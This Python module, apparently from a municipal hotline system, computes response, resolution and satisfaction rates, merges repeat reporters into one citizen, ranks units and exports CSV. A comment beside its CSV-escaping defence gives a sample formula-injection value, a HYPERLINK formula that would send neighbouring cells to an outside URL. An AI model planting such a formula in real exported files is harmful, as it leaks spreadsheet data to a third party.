"""The 三率 a hotline centre publishes: 响应率, 解决率, 满意率 — and the ranking built from them.

Pure computation over plain rows, one per case. A merged repeat is not a row: the answers of the
reporters merged into a case travel in its row (``RateRow.reports``, filled by hotline/rates_cases.py).

- 响应率 response rate: among cases dispatched to a unit, those it accepted (接单) within the response
  time limit. Cases answered at intake (直接答复) count as dispatched and responded. Per case.
- 解决率 resolution rate: among survey answers (回访数), those saying the problem is solved (已解决). Per
  citizen, as 12345 centres count each caller's evaluation of their own 诉求: a case two citizens reported
  and both answered is two evaluations; a citizen who reported it twice (催办) is one (``same_citizen``).
- 满意率 satisfaction rate: among survey answers, 满意 + w·基本满意 (w from config), as a share.
- score: the weighted sum the ranking sorts by (weights from config; Beijing's 接诉即办 assessment weighs
  response 10 %, resolution 45 %, satisfaction 45 %).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from zoneinfo import ZoneInfo

from hotline.numbers import digits_of

SATISFIED = "satisfied"  # 满意
BASIC = "basic"  # 基本满意
UNSATISFIED = "unsatisfied"  # 不满意
SATISFACTION_LABELS_ZH = {SATISFIED: "满意", BASIC: "基本满意", UNSATISFIED: "不满意"}
DIRECT_ANSWER_UNIT = "直接答复"
# Channels whose sender is the citizen's own account (chat id, openid). Elsewhere it names no person: the web
# form's is the phone or a hash of the client's address (shared behind a NAT), a call's is the caller number.
CHAT_CHANNELS = frozenset({"telegram", "wechat"})


def phone_key(text: str) -> str:
    """A phone number as one citizen's identity: digits only, a +86 / 0086 before a mobile number dropped."""
    digits = digits_of(text)
    for prefix in ("0086", "86"):
        if digits.startswith(prefix) and len(digits) == len(prefix) + 11 and digits[len(prefix)] == "1":
            return digits[len(prefix):]
    return digits


def citizen_keys(channel: str, sender: str, contact: str) -> frozenset[str]:
    """What identifies the citizen behind one report: their phone, their chat account. Empty when nothing
    does (an anonymous web form, a call without caller id): such a report is nobody's repeat."""
    keys = set()
    for number in (contact, sender if channel == "voice" else ""):
        phone = phone_key(number)
        if phone:
            keys.add(f"tel:{phone}")
    if channel in CHAT_CHANNELS and sender:
        keys.add(f"{channel}:{sender}")
    return frozenset(keys)


def same_citizen(reporters: Sequence[tuple[str, frozenset[str]]]) -> list[list[str]]:
    """The reporters (id, ``citizen_keys``) grouped by citizen, each group and its members in the order
    given. Sharing one key is enough, and it carries: a chat report that also left the phone of an earlier
    call joins the two, so a third report from either is the same citizen again."""
    parent = list(range(len(reporters)))

    def root(i: int) -> int:
        while parent[i] != i:
            parent[i] = parent[parent[i]]
            i = parent[i]
        return i

    first: dict[str, int] = {}
    for i, (_rid, keys) in enumerate(reporters):
        for key in sorted(keys):
            if key not in first:
                first[key] = i
                continue
            a, b = root(first[key]), root(i)
            if a != b:
                parent[max(a, b)] = min(a, b)  # the earliest report stays the group's root
    groups: dict[int, list[str]] = {}
    for i, (rid, _keys) in enumerate(reporters):
        groups.setdefault(root(i), []).append(rid)
    return list(groups.values())


@dataclass(frozen=True)
class RateRow:
    case_id: str
    department: str
    street: str
    category: str
    created_at: float
    dispatched: bool
    # Seconds from dispatch to acceptance; None when the unit never accepted.
    accept_delay_s: float | None
    response_limit_s: float
    answered_at_intake: bool = False
    resolved: bool | None = None  # survey Q1 of the case's own reporter; None when not surveyed
    satisfaction: str | None = None  # survey Q2
    # (resolved, satisfaction) of each other citizen merged into the case who answered, one evaluation each.
    reports: tuple[tuple[bool, str | None], ...] = ()

    def answers(self) -> list[tuple[bool, str | None]]:
        """Every evaluation of the case: its own reporter's, then the merged reporters'."""
        out = list(self.reports)
        if self.resolved is not None:
            out.insert(0, (self.resolved, self.satisfaction))
        return out


@dataclass(frozen=True)
class Weights:
    basic_satisfied: float = 0.8
    response: float = 0.10
    resolution: float = 0.45
    satisfaction: float = 0.45


@dataclass
class Rates:
    key: str
    cases: int = 0
    dispatched: int = 0
    responded: int = 0
    surveyed: int = 0  # survey answers (回访数): one per citizen who answered, so it may exceed ``cases``
    resolved: int = 0
    satisfied: int = 0
    basic: int = 0
    unsatisfied: int = 0
    weights: Weights = field(default_factory=Weights, repr=False)

    @property
    def response_rate(self) -> float | None:
        return self.responded / self.dispatched if self.dispatched else None

    @property
    def resolution_rate(self) -> float | None:
        return self.resolved / self.surveyed if self.surveyed else None

    @property
    def satisfaction_rate(self) -> float | None:
        if not self.surveyed:
            return None
        return (self.satisfied + self.weights.basic_satisfied * self.basic) / self.surveyed

    @property
    def score(self) -> float | None:
        """Weighted score over the rates that exist; None when the unit had nothing to rate."""
        parts = [(self.response_rate, self.weights.response), (self.resolution_rate, self.weights.resolution),
                 (self.satisfaction_rate, self.weights.satisfaction)]
        known = [(value, w) for value, w in parts if value is not None]
        total_w = sum(w for _, w in known)
        if not known or total_w == 0:
            return None
        return sum(value * w for value, w in known) / total_w

    def add(self, row: RateRow) -> None:
        self.cases += 1
        if row.answered_at_intake:
            self.dispatched += 1
            self.responded += 1
        elif row.dispatched:
            self.dispatched += 1
            if row.accept_delay_s is not None and row.accept_delay_s <= row.response_limit_s:
                self.responded += 1
        for resolved, satisfaction in row.answers():
            self.surveyed += 1
            self.resolved += int(resolved)
            if satisfaction == SATISFIED:
                self.satisfied += 1
            elif satisfaction == BASIC:
                self.basic += 1
            elif satisfaction == UNSATISFIED:
                self.unsatisfied += 1

    def to_dict(self) -> dict[str, object]:
        def r(x: float | None) -> float | None:
            return None if x is None else round(x, 4)

        return {"key": self.key, "cases": self.cases, "dispatched": self.dispatched, "responded": self.responded,
                "surveyed": self.surveyed, "resolved": self.resolved, "satisfied": self.satisfied,
                "basic": self.basic, "unsatisfied": self.unsatisfied,
                "response_rate": r(self.response_rate), "resolution_rate": r(self.resolution_rate),
                "satisfaction_rate": r(self.satisfaction_rate), "score": r(self.score)}


def week_of(ts: float, tz: str = "Asia/Shanghai") -> str:
    year, week, _ = datetime.fromtimestamp(ts, ZoneInfo(tz)).isocalendar()
    return f"{year}-W{week:02d}"


def group_key(by: str, tz: str = "Asia/Shanghai") -> Callable[[RateRow], str]:
    if by == "department":
        return lambda row: DIRECT_ANSWER_UNIT if row.answered_at_intake and not row.department else row.department
    if by == "street":
        return lambda row: row.street
    if by == "category":
        return lambda row: row.category
    if by == "week":
        return lambda row: week_of(row.created_at, tz)
    raise ValueError(f"cannot group by {by!r}: use department, street, category or week")


def compute(rows: Iterable[RateRow], by: str, weights: Weights | None = None,
            tz: str = "Asia/Shanghai") -> list[Rates]:
    """Rates per group; rows without a value for the grouping (no street known) are left out."""
    weights = weights or Weights()
    key_of = group_key(by, tz)
    groups: dict[str, Rates] = {}
    for row in rows:
        key = key_of(row)
        if not key:
            continue
        groups.setdefault(key, Rates(key=key, weights=weights)).add(row)
    return list(groups.values())


def ranking(rates: Iterable[Rates], min_cases: int = 1) -> list[Rates]:
    """Best first, as the published 排名; units with too few cases to judge are left out."""
    eligible = [r for r in rates if r.cases >= min_cases and r.score is not None]
    return sorted(eligible, key=lambda r: (-(r.score or 0.0), -r.cases, r.key))


def total(rows: Iterable[RateRow], weights: Weights | None = None) -> Rates:
    out = Rates(key="全部", weights=weights or Weights())
    for row in rows:
        out.add(row)
    return out


CSV_HEADER_ZH = ["排名", "单位", "案件数", "派遣数", "按时响应", "回访数", "已解决", "满意", "基本满意", "不满意",
                 "响应率", "解决率", "满意率", "综合得分"]


# A spreadsheet takes a cell starting with one of these as a formula (CSV injection): a street typed by a
# call-taker as =HYPERLINK("http://…?d="&A2) would send the neighbouring cells away when the file is opened.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """A text cell a spreadsheet shows as text (OWASP: a leading single quote); numbers stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """Every CSV the hotline hands out goes through here, so that no text cell can run as a formula."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([csv_cell(v) for v in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buf.getvalue()


def to_csv(ranked: list[Rates]) -> str:
    def pct(x: float | None) -> str:
        return "" if x is None else f"{x * 100:.1f}%"

    return csv_text(CSV_HEADER_ZH, (
        [i, r.key, r.cases, r.dispatched, r.responded, r.surveyed, r.resolved, r.satisfied, r.basic, r.unsatisfied,
         pct(r.response_rate), pct(r.resolution_rate), pct(r.satisfaction_rate),
         "" if r.score is None else f"{r.score * 100:.2f}"]
        for i, r in enumerate(ranked, 1)))
